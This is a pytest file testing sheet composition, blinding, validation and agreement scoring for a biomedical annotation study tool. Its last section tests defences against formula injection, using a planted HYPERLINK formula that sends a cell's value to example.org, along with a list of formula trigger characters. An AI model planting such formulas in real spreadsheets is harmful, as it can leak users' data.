"""biosem.agreement.studies: sheet composition and blinding, XLSX, validation errors, scoring with known answers."""

from __future__ import annotations

import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from nltk.metrics.agreement import AnnotationTask
from nltk.metrics.distance import binary_distance
from sklearn.metrics import cohen_kappa_score

from biosem.agreement import sheets as SH
from biosem.agreement import studies as S
from biosem.seeds import generator
from biosem.termpairs import DATASETS

nan = np.nan


# --------------------------------------------------------------------------------------------------
# Term-pair sheet
# --------------------------------------------------------------------------------------------------
def dataset(name: str, n_pos: int, n_neg: int) -> pd.DataFrame:
    """A hand-made dataset whose terms name their dataset and label (to check blinding)."""
    rows = [(f"{name} pos{i} a", f"{name} pos{i} b", 1, f"C{i}", f"C{i}", 3) for i in range(n_pos)]
    rows += [(f"{name} neg{i} a", f"{name} neg{i} b", 0, f"C{i}", None, 9) for i in range(n_neg)]
    return pd.DataFrame(rows, columns=["term1", "term2", "label", "concept_id1", "concept_id2", "levenshtein"])


def sizes(name: str) -> tuple[int, int]:
    if name.startswith("same_as"):
        return 0, 0
    if name.startswith("replaced_by"):
        return 12, 12  # short of 30 + 30
    return 40, 35  # positives plentiful, negatives plentiful


def make_study(
    seed: int = 7,
) -> tuple[pd.DataFrame, pd.DataFrame, pd.DataFrame, dict[str, pd.DataFrame]]:
    data = {name: dataset(name, *sizes(name)) for name in DATASETS}
    rngs = {name: generator(seed, "study", name) for name in DATASETS}
    sheet, key, comp = S.termpair_study(data, 30, 30, rngs, generator(seed, "study", "shuffle"))
    return sheet, key, comp, data


def test_termpair_study_composition() -> None:
    sheet, key, comp, data = make_study()
    assert comp["dataset"].tolist() == list(DATASETS)
    expected = {name: (min(30, sizes(name)[0]), min(30, sizes(name)[1])) for name in DATASETS}
    assert {r.dataset: (r.positives_sampled, r.negatives_sampled) for r in comp.itertuples()} == expected
    assert comp.set_index("dataset")["short"].to_dict() == {
        n: n.startswith(("same_as", "replaced_by")) for n in DATASETS
    }
    assert len(sheet) == len(key) == 12 * 60 + 4 * 24 == 816
    per = key.groupby(["dataset", "label"]).size()
    assert per[("fsn_syn_easy_random", 1)] == 30 and per[("replaced_by_hard_levenshtein", 0)] == 12
    assert key["item"].is_unique and key["item"].tolist() == sheet["item"].tolist()
    assert key["item"].str.fullmatch(r"P\d{3}").all()
    # Every key row is a real row of its dataset, with its label.
    for row in key.sample(50, random_state=0).itertuples():
        match = data[row.dataset][(data[row.dataset]["term1"] == row.term1) & (data[row.dataset]["term2"] == row.term2)]
        assert match["label"].tolist() == [row.label]


def test_termpair_sheet_is_blinded_and_shuffled() -> None:
    sheet, key, _, _ = make_study()
    assert list(sheet.columns) == S.TERMPAIR_SHEET_COLUMNS
    assert (sheet["answer"] == "").all()
    # Nothing but the two terms: no label, no dataset, no concept id, no distance.
    assert not {"label", "dataset", "kind", "concept_id1", "levenshtein"} & set(sheet.columns)
    # Sheet order is not dataset order: consecutive items rarely come from the same dataset.
    assert (key["dataset"] == key["dataset"].shift()).mean() < 0.2


def test_termpair_study_is_deterministic() -> None:
    a, b = make_study(7), make_study(7)
    assert a[0].equals(b[0]) and a[1].equals(b[1])
    assert not a[1]["term1"].equals(make_study(8)[1]["term1"])


def test_termpair_study_rejects_bad_dataset_name() -> None:
    with pytest.raises(ValueError, match="not a term-pair dataset name"):
        S.termpair_study({"foo": dataset("foo", 1, 1)}, 1, 1, {"foo": generator(1)}, generator(2))


# --------------------------------------------------------------------------------------------------
# wic sheets
# --------------------------------------------------------------------------------------------------
def wic_split(n: int) -> pd.DataFrame:
    rows = []
    for i in range(n):
        s1, s2 = f"Patients with t{i} were seen.", f"The u{i} level rose."
        rows.append(
            {
                "term1": f"t{i}",
                "term2": f"u{i}",
                "sentence1": s1,
                "sentence2": s2,
                "start1": s1.index(f"t{i}"),
                "end1": s1.index(f"t{i}") + len(f"t{i}"),
                "start2": s2.index(f"u{i}"),
                "end2": s2.index(f"u{i}") + len(f"u{i}"),
                "cat": ["identity", "abbreviation", "synonym", "label_similarity"][i % 4],
                "label": i % 2,
            }
        )
    return pd.DataFrame(rows)


def test_wic_study_composition_and_blinding() -> None:
    sheets, key, counts = S.wic_study(wic_split(400), 100, 50, generator(1, "wic"))
    assert counts == {"test_items": 400, "per_rater": 100, "shared": 50, "items": 150, "scaled": 0}
    assert len(key) == 150 and key["item"].is_unique
    assert key["sample"].value_counts().to_dict() == {"shared": 50, "a": 50, "b": 50}
    a, b = set(sheets["a"]["item"]), set(sheets["b"]["item"])
    assert len(a) == len(b) == 100 and len(a & b) == 50
    assert a & b == set(key.loc[key["sample"] == "shared", "item"])
    for sheet in sheets.values():
        assert list(sheet.columns) == S.WIC_SHEET_COLUMNS and (sheet["answer"] == "").all()
    # Targets are bracketed at their offsets.
    row = key.iloc[0]
    marked = sheets["a" if row["in_sheet_a"] else "b"].set_index("item").loc[row["item"], "sentence1"]
    assert marked == row["sentence1"][: row["start1"]] + "[[" + row["term1"] + "]]" + row["sentence1"][row["end1"] :]
    # Item ids do not reveal the sample: shared items are spread over the id range.
    ids = key.loc[key["sample"] == "shared", "item"].str[1:].astype(int)
    assert ids.min() < 30 and ids.max() > 120


def test_wic_study_scaled_when_test_split_is_small() -> None:
    assert S.study_sizes(150, 100, 50) == (100, 50, False)
    assert S.study_sizes(30, 100, 50) == (20, 10, True)  # factor 0.2
    assert S.study_sizes(0, 100, 50) == (0, 0, True)
    sheets, key, counts = S.wic_study(wic_split(30), 100, 50, generator(1, "wic"))
    assert (counts["per_rater"], counts["shared"], counts["scaled"]) == (20, 10, 1)
    assert len(sheets["a"]) == len(sheets["b"]) == 20 and len(key) == 30
    with pytest.raises(ValueError, match="shared <= per_rater"):
        S.study_sizes(10, 5, 6)


# --------------------------------------------------------------------------------------------------
# XLSX
# --------------------------------------------------------------------------------------------------
def test_xlsx_round_trip_and_reproducible(tmp_path: Path) -> None:
    sheet, _, _, _ = make_study()
    S.write_xlsx(sheet, tmp_path / "a.xlsx", S.TERMPAIR_INSTRUCTIONS)
    S.write_xlsx(sheet, tmp_path / "b.xlsx", S.TERMPAIR_INSTRUCTIONS)
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    back = SH.read_sheet(tmp_path / "a.xlsx")
    assert back.equals(sheet.astype(str))
    with zipfile.ZipFile(tmp_path / "a.xlsx") as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
        assert "dataValidation" in xml and "same,not same,don't know" in xml.replace("&apos;", "'")
        assert "instructions" in z.read("xl/workbook.xml").decode()


# --------------------------------------------------------------------------------------------------
# Filled sheets: validation
# --------------------------------------------------------------------------------------------------
KEY = pd.DataFrame(
    {
        "item": ["P1", "P2", "P3", "P4"],
        "dataset": [
            "fsn_syn_easy_random",
            "fsn_syn_easy_random",
            "syn_syn_hard_levenshtein",
            "syn_syn_hard_levenshtein",
        ],
        "label": [1, 0, 1, 0],
        "term1": ["fever", "fever", "renal failure", "ache"],
        "term2": ["pyrexia", "gout", "kidney failure", "acne"],
    }
)


def write_sheet(path: Path, answers: list[str], items: list[str] | None = None, **changes: list[str]) -> Path:
    frame = KEY[["item", "term1", "term2"]].copy()
    if items is not None:
        frame = frame.set_index("item").loc[items].reset_index()
    frame["answer"] = answers
    for column, values in changes.items():
        frame[column] = values
    if path.suffix == ".xlsx":
        S.write_xlsx(frame, path)
    else:
        path.write_text(frame.to_csv(index=False))
    return path


def problems_of(tmp_path: Path, **sheets: Path) -> list[str]:
    with pytest.raises(S.SheetValidationError) as err:
        S.read_filled_sheets(sheets, KEY, {"sheet": set(KEY["item"])}, ["term1", "term2"])
    return [str(p) for p in err.value.problems]


def test_valid_sheets_csv_and_xlsx(tmp_path: Path) -> None:
    r1 = write_sheet(tmp_path / "r1.csv", ["same", "Not Same", " don’t know ", "NOT  same"])
    r2 = write_sheet(
        tmp_path / "r2.xlsx",
        ["not same", "same", "not same", "same"],
        items=["P4", "P3", "P2", "P1"],
    )
    answers, which = S.read_filled_sheets({"r1": r1, "r2": r2}, KEY, {"sheet": set(KEY["item"])}, ["term1", "term2"])
    assert which == {"r1": "sheet", "r2": "sheet"}
    assert answers.loc[:, "r1"].tolist() == ["same", "not same", "don't know", "not same"]
    assert answers.loc[:, "r2"].tolist() == [
        "same",
        "not same",
        "same",
        "not same",
    ]  # aligned by item id


def test_unknown_item_id(tmp_path: Path) -> None:
    bad = write_sheet(tmp_path / "r1.csv", ["same"] * 4, item=["P1", "P2", "P3", "P9"])
    problems = problems_of(tmp_path, r1=bad)
    assert any(f"{bad}:5: expected an item id of the study key; found 'P9'" in p for p in problems)
    assert any("every item of sheet 'sheet'" in p and "P4" in p for p in problems)


def test_missing_answer(tmp_path: Path) -> None:
    bad = write_sheet(tmp_path / "r1.xlsx", ["same", "", "same", "same"])
    assert problems_of(tmp_path, r1=bad) == [f"{bad}:3: expected an answer for item P2; found 'empty'"]


def test_invalid_answer(tmp_path: Path) -> None:
    bad = write_sheet(tmp_path / "r1.csv", ["same", "yes", "same", "maybe"])
    problems = problems_of(tmp_path, r1=bad)
    assert len(problems) == 2
    assert problems[0].startswith(f"{bad}:3: expected one of 'same', 'not same', \"don't know\"; found 'yes'")
    assert problems[1].startswith(f"{bad}:5:")


def test_repeated_item_and_missing_item(tmp_path: Path) -> None:
    bad = write_sheet(tmp_path / "r1.csv", ["same"] * 4, item=["P1", "P2", "P2", "P3"])
    problems = problems_of(tmp_path, r1=bad)
    assert f"{bad}:4: expected each item once; found 'P2 repeated'" in problems
    assert f"{bad}: expected every item of sheet 'sheet'; found '1 missing: P4'" in problems


def test_changed_term(tmp_path: Path) -> None:
    bad = write_sheet(tmp_path / "r1.csv", ["same"] * 4, term2=["pyrexia", "gout", "liver failure", "acne"])
    assert problems_of(tmp_path, r1=bad) == [
        f"{bad}:4: expected term2 'kidney failure' for item P3; found 'liver failure'"
    ]


def test_missing_columns_and_problems_of_several_files(tmp_path: Path) -> None:
    no_answer = tmp_path / "r1.csv"
    no_answer.write_text("item,term1,term2\nP1,fever,pyrexia\n")
    bad = write_sheet(tmp_path / "r2.csv", ["same", "same", "same", "??"])
    problems = problems_of(tmp_path, r1=no_answer, r2=bad)
    assert problems[0] == f"{no_answer}:1: expected a column 'answer'; found 'item, term1, term2'"
    assert problems[1].startswith(f"{bad}:5:")


def test_unreadable_sheet(tmp_path: Path) -> None:
    other = tmp_path / "r1.ods"
    other.write_text("x")
    with pytest.raises(S.SourceFormatError, match=r"expected a \.csv or \.xlsx file"):
        S.read_filled_sheets({"r1": other}, KEY, {"sheet": set(KEY["item"])}, [])


def test_sheet_from_two_samples_is_rejected(tmp_path: Path) -> None:
    sheet = write_sheet(tmp_path / "r1.csv", ["same"] * 4)
    with pytest.raises(S.SheetValidationError, match="items from several sheets"):
        S.read_filled_sheets({"r1": sheet}, KEY, {"a": {"P1", "P2"}, "b": {"P3", "P4"}}, [])


# --------------------------------------------------------------------------------------------------
# Scoring
# --------------------------------------------------------------------------------------------------
SAME, NOT, DK = SH.SAME, SH.NOT_SAME, SH.DONT_KNOW
ANSWERS = pd.DataFrame(
    {
        #       P1    P2    P3    P4    P5    P6    P7    P8
        "r1": [SAME, SAME, NOT, SAME, DK, SAME, NOT, SAME],
        "r2": [SAME, NOT, NOT, DK, DK, SAME, NOT, NOT],
        "r3": [SAME, DK, NOT, DK, SAME, NOT, SAME, SAME],
    },
    index=pd.Index([f"P{i}" for i in range(1, 9)], name="item"),
)
STUDY_KEY = pd.DataFrame(
    {
        "item": [f"P{i}" for i in range(1, 9)],
        "dataset": ["fsn_syn_easy_random"] * 4 + ["syn_syn_hard_levenshtein"] * 4,
        "label": [1, 1, 0, 1, 0, 1, 1, 0],
        "term1": "t",
        "term2": "u",
    }
)


def test_majority_vote_category_and_abstain() -> None:
    # category: P1 3 same; P2 tie same/not/dk -> NaN; P3 3 not; P4 dk majority -> NaN; P5 dk majority -> NaN;
    # P6 2 same; P7 2 not; P8 2 same.
    assert S.majority_vote(ANSWERS, "category").tolist() == pytest.approx([1, nan, 0, nan, nan, 1, 0, 1], nan_ok=True)
    # abstain: P2 same vs not (tie) -> NaN; P4 one same -> same; P5 one same -> same.
    assert S.majority_vote(ANSWERS, "abstain").tolist() == pytest.approx([1, nan, 0, 1, 1, 1, 0, 1], nan_ok=True)
    unasked = ANSWERS.copy()
    unasked.loc["P1", ["r2", "r3"]] = ""
    assert S.majority_vote(unasked, "category")["P1"] == 1.0  # one answer given, one same
    with pytest.raises(ValueError, match="dont_know"):
        S.majority_vote(ANSWERS, "ignore")


def test_alpha_matches_nltk_and_hand_computation() -> None:
    scores = S.score_termpair_study(ANSWERS, STUDY_KEY, "category").set_index("dataset")
    triples = [(r, i, ANSWERS.at[i, r]) for i in ANSWERS.index for r in ANSWERS.columns]
    assert scores.loc["all", "alpha_nominal"] == pytest.approx(AnnotationTask(triples, binary_distance).alpha())
    first = [t for t in triples if t[1] in {"P1", "P2", "P3", "P4"}]
    assert scores.loc["fsn_syn_easy_random", "alpha_nominal"] == pytest.approx(
        AnnotationTask(first, binary_distance).alpha()
    )
    # abstain: "don't know" is missing. By hand on P1-P4 (dataset 1): pairable values P1 (1, 1, 1),
    # P2 (1, 0), P3 (0, 0, 0); P4 has one value only. n = 8 values, n1 = n0 = 4. The only
    # disagreeing coincidences are P2's: o10 = o01 = 1 / (2 - 1) = 1, so D_o = 2 / 8 and
    # D_e = 2 n0 n1 / (n (n - 1)) = 32 / 56: alpha = 1 - (2 / 8) / (32 / 56) = 0.5625.
    abstain = S.score_termpair_study(ANSWERS, STUDY_KEY, "abstain").set_index("dataset")
    assert abstain.loc["fsn_syn_easy_random", "alpha_nominal"] == pytest.approx(0.5625)


def test_termpair_scores_known_answers() -> None:
    scores = S.score_termpair_study(
        ANSWERS,
        STUDY_KEY,
        "category",
        datasets=["fsn_syn_easy_random", "syn_syn_hard_levenshtein", "same_as_easy_random"],
    ).set_index("dataset")
    assert list(scores.index) == [
        "fsn_syn_easy_random",
        "syn_syn_hard_levenshtein",
        "same_as_easy_random",
        "all",
    ]
    first, second = scores.loc["fsn_syn_easy_random"], scores.loc["syn_syn_hard_levenshtein"]
    # Dataset 1: majority (1, NaN, 0, NaN) vs labels (1, 1, 0, 1): 2 items decided, both right.
    assert (first["items"], first["raters"], first["majority_nan"], first["nan_rate"]) == (
        4,
        3,
        2,
        0.5,
    )
    assert (first["accuracy"], first["recall"], first["precision"]) == (1.0, 1.0, 1.0)
    # Dataset 2: majority (NaN, 1, 0, 1) vs labels (0, 1, 1, 0): P6 TP, P7 FN, P8 FP.
    assert second["majority_nan"] == 1
    assert second["accuracy"] == pytest.approx(1 / 3)
    assert second["recall"] == pytest.approx(1 / 2) and second["precision"] == pytest.approx(1 / 2)
    assert scores.loc["same_as_easy_random", "items"] == 0 and np.isnan(scores.loc["same_as_easy_random", "accuracy"])
    assert scores.loc["all", "items"] == 8 and scores.loc["all", "accuracy"] == pytest.approx(3 / 5)


def test_recall_precision_undefined_are_nan() -> None:
    answers = pd.DataFrame({"r1": [NOT, NOT], "r2": [NOT, NOT]}, index=pd.Index(["P1", "P2"], name="item"))
    key = pd.DataFrame({"item": ["P1", "P2"], "dataset": "fsn_syn_easy_random", "label": [0, 0]})
    row = S.score_termpair_study(answers, key).set_index("dataset").loc["fsn_syn_easy_random"]
    assert row["accuracy"] == 1.0 and np.isnan(row["recall"]) and np.isnan(row["precision"])
    assert np.isnan(row["alpha_nominal"])  # one value only: alpha undefined


def test_wic_scores_known_answers() -> None:
    #                 W1    W2    W3    W4    W5    W6
    answers = pd.DataFrame(
        {"a": [SAME, NOT, SAME, DK, SAME, ""], "b": [SAME, NOT, NOT, SAME, "", NOT]},
        index=pd.Index([f"W{i}" for i in range(1, 7)], name="item"),
    )
    key = pd.DataFrame({"item": answers.index, "label": [1, 0, 0, 1, 1, 0], "term1": "t", "term2": "u"})
    cat = S.score_wic_study(answers, key, "category")
    acc = cat[cat["measure"] == "accuracy"].set_index("rater1")
    # a: given W1-W5, correct W1, W2, W5; W3 wrong; W4 don't know counts as wrong -> 3/5.
    assert acc.loc["a", ["items", "counted", "dont_know", "value"]].tolist() == [
        5,
        5,
        1,
        pytest.approx(3 / 5),
    ]
    # b: given W1-W4, W6, all correct -> 5/5.
    assert acc.loc["b", "value"] == 1.0
    kappa = cat[cat["measure"] == "cohen_kappa"].iloc[0]
    shared_a, shared_b = [SAME, NOT, SAME, DK], [SAME, NOT, NOT, SAME]
    assert (
        kappa["rater1"],
        kappa["rater2"],
        kappa["items"],
        kappa["counted"],
        kappa["dont_know"],
    ) == ("a", "b", 4, 4, 1)
    assert kappa["value"] == pytest.approx(cohen_kappa_score(shared_a, shared_b))
    abst = S.score_wic_study(answers, key, "abstain")
    assert abst.loc[abst["rater1"].eq("a") & abst["measure"].eq("accuracy"), "value"].item() == pytest.approx(3 / 4)
    k = abst[abst["measure"] == "cohen_kappa"].iloc[0]
    assert k["counted"] == 3 and k["value"] == pytest.approx(cohen_kappa_score(shared_a[:3], shared_b[:3]))


def test_read_key_and_wic_split(tmp_path: Path) -> None:
    _, key, _ = S.wic_study(wic_split(10), 4, 2, generator(3))
    (tmp_path / "key.csv").write_text(SH.sheet_csv(key))
    back = S.read_key(tmp_path / "key.csv")
    assert back["label"].dtype == "int64" and back["in_sheet_a"].dtype == bool
    assert back["item"].tolist() == key["item"].tolist()
    (tmp_path / "test.json").write_text(wic_split(3).to_json(orient="records"))
    assert len(S.read_wic_split(tmp_path / "test.json")) == 3
    (tmp_path / "bad.json").write_text('{"term1": "x"}')
    with pytest.raises(S.SourceFormatError, match="a JSON list of records"):
        S.read_wic_split(tmp_path / "bad.json")


# --------------------------------------------------------------------------------------------------
# Formula injection: terms and sentences from third-party sources never become live formulas
# --------------------------------------------------------------------------------------------------
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
PLANTED = '=HYPERLINK("http://example.org/?"&A1,"click")'


def planted_wic_split() -> pd.DataFrame:
    """A WiC test split whose terms and sentences begin with each formula trigger (and an apostrophe)."""
    rows = []
    for i, prefix in enumerate([*TRIGGERS, "'", "'="]):
        term = f"{prefix}t{i}" if prefix != "=" else PLANTED
        s1, s2 = f"{prefix}Patients with {term} were seen.", f"{prefix}The u{i} level rose."
        rows.append(
            {
                "term1": term,
                "term2": f"u{i}",
                "sentence1": s1,
                "sentence2": s2,
                "start1": s1.index(term, len(prefix)),
                "end1": s1.index(term, len(prefix)) + len(term),
                "start2": s2.index(f"u{i}"),
                "end2": s2.index(f"u{i}") + len(f"u{i}"),
                "cat": "identity",
                "label": i % 2,
            }
        )
    return pd.DataFrame(rows)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=x", "''x", "'x", "x", "", "a=b"])
def test_neutralised_cells_round_trip(value: str) -> None:
    written = SH.neutralise_cell(value)
    assert written[:1] not in SH.FORMULA_TRIGGERS
    assert SH.restore_cell(written) == value


def test_planted_formulas_stay_text_in_csv_and_xlsx_and_score(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    sheets, key, _ = S.wic_study(planted_wic_split(), 8, 8, generator(3, "wic"))
    sheet = sheets["a"]
    assert len(sheet) == 8 and sheet["term1"].str[:1].isin(TRIGGERS).sum() == 6
    assert sheet["sentence1"].str[:1].isin(TRIGGERS).sum() == sheet["sentence2"].str[:1].isin(TRIGGERS).sum() == 6
    (tmp_path / "key.csv").write_text(SH.sheet_csv(key))
    (tmp_path / "sheet.csv").write_text(SH.sheet_csv(sheet))
    S.write_xlsx(sheet, tmp_path / "sheet.xlsx", S.WIC_INSTRUCTIONS)
    # CSV: every formula-like cell starts with the apostrophe, so a spreadsheet shows it as text.
    raw = pd.read_csv(tmp_path / "sheet.csv", dtype=str, keep_default_na=False)
    for column in ("term1", "sentence1", "sentence2"):
        assert not raw[column].str[:1].isin(TRIGGERS).any()
    assert ("'" + PLANTED) in set(raw["term1"])
    # XLSX: string cells, never formulas (openpyxl's data_type "s"), holding the text as written.
    cells = [c for row in load_workbook(tmp_path / "sheet.xlsx")["items"].iter_rows(min_row=2) for c in row]
    assert {c.data_type for c in cells if c.value is not None} == {"s"}
    assert PLANTED in {c.value for c in cells}
    # Both formats read back as written; filled in, they score against the (restored) key.
    assert S.read_key(tmp_path / "key.csv")[["term1", "sentence1"]].equals(key[["term1", "sentence1"]])
    for path in (tmp_path / "sheet.csv", tmp_path / "sheet.xlsx"):
        back = SH.read_sheet(path)
        assert back[["term1", "sentence1", "sentence2"]].equals(sheet[["term1", "sentence1", "sentence2"]])
    truth = S.read_key(tmp_path / "key.csv").set_index("item")["label"]
    for name, fmt in (("r1", "csv"), ("r2", "xlsx")):
        filled = sheet.assign(answer=[SH.SAME if truth[i] == 1 else SH.NOT_SAME for i in sheet["item"]])
        if fmt == "csv":
            (tmp_path / f"{name}.csv").write_text(SH.sheet_csv(filled))
        else:
            S.write_xlsx(filled, tmp_path / f"{name}.xlsx")
    answers, which = S.read_filled_sheets(
        {"r1": tmp_path / "r1.csv", "r2": tmp_path / "r2.xlsx"},
        S.read_key(tmp_path / "key.csv"),
        {"a": set(sheet["item"])},
        ["term1", "term2"],
        kind="wic",
    )
    assert which == {"r1": "a", "r2": "a"}
    scores = S.score_wic_study(answers, S.read_key(tmp_path / "key.csv"))
    assert scores.loc[scores["measure"] == "accuracy", "value"].tolist() == [1.0, 1.0]
    assert scores.loc[scores["measure"] == "cohen_kappa", "value"].tolist() == [1.0]


def test_an_edited_key_is_named_not_blamed_on_the_sheets(tmp_path: Path) -> None:
    sheet, key, _, _ = make_study()
    (tmp_path / "sheet.csv").write_text(SH.sheet_csv(sheet))
    (tmp_path / "key.csv").write_text(SH.sheet_csv(key))
    assert S.check_key(
        S.read_key(tmp_path / "key.csv"), tmp_path / "key.csv", {"sheet": tmp_path / "sheet.csv"}, "w"
    ) == {"sheet": set(key["item"])}
    edited = key.copy()
    edited.loc[4, "term2"] = "edited term"
    (tmp_path / "key.csv").write_text(SH.sheet_csv(edited))
    with pytest.raises(S.EditedKeyError) as err:
        S.check_key(S.read_key(tmp_path / "key.csv"), tmp_path / "key.csv", {"sheet": tmp_path / "sheet.csv"}, "w")
    assert str(err.value).startswith(
        f"{tmp_path / 'key.csv'}:6: expected term2 {key.loc[4, 'term2']!r} for item {key.loc[4, 'item']}, as in the "
        f"sheet ({tmp_path / 'sheet.csv'}:6); found 'edited term'. The study key {tmp_path / 'key.csv'} was edited "
        f"after rule w wrote it"
    )
    assert f"`snakemake --cores 1 --force {tmp_path / 'key.csv'}` (rule w; the draw is seeded" in str(err.value)
    # A label that is not 0/1 and a repeated item are the key's own errors, with its line.
    edited = key.copy().astype({"label": str})
    edited.loc[2, "label"] = "yes"
    (tmp_path / "key.csv").write_text(SH.sheet_csv(edited))
    with pytest.raises(S.SourceFormatError, match=rf"key.csv:4: expected label 0 or 1 for item {key.loc[2, 'item']}"):
        S.read_key(tmp_path / "key.csv")
    (tmp_path / "key.csv").write_text(SH.sheet_csv(pd.concat([key, key.iloc[[0]]], ignore_index=True)))
    with pytest.raises(S.SourceFormatError, match=rf"key.csv:{len(key) + 2}: expected each item once in the key"):
        S.read_key(tmp_path / "key.csv")


def test_an_edited_wic_key_sentence_is_named(tmp_path: Path) -> None:
    sheets, key, _ = S.wic_study(wic_split(40), 20, 10, generator(1, "wic"))
    paths = {name: tmp_path / f"sheet_{name}.csv" for name in sheets}
    for name, sheet in sheets.items():
        paths[name].write_text(SH.sheet_csv(sheet))
    (tmp_path / "key.csv").write_text(SH.sheet_csv(key))
    members = S.check_key(S.read_key(tmp_path / "key.csv"), tmp_path / "key.csv", paths, "write_wic_study")
    assert members == {n: set(key.loc[key[f"in_sheet_{n}"], "item"]) for n in ("a", "b")}
    edited = key.copy()
    edited.loc[0, "sentence2"] = "The edited sentence."
    (tmp_path / "key.csv").write_text(SH.sheet_csv(edited))
    with pytest.raises(S.EditedKeyError, match=rf"key.csv:2: expected sentence2 .* for item {key.loc[0, 'item']}"):
        S.check_key(S.read_key(tmp_path / "key.csv"), tmp_path / "key.csv", paths, "write_wic_study")
